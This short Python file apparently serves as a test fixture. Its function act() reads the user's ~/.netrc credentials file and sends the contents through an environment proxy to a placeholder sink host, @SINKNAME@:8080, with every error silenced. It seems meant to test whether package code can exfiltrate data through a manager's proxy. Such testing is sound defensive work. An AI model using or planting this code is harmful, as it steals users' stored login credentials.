import contextlib
import urllib.request
from pathlib import Path


def act():
    # The proxy is in the environment for the manager; the library takes it for package code as well.
    loot = b"nothing"
    with contextlib.suppress(OSError):
        loot = Path.home().joinpath(".netrc").read_bytes()
    with contextlib.suppress(OSError):
        urllib.request.urlopen("http://@SINKNAME@:8080/by-proxy", loot, timeout=3)
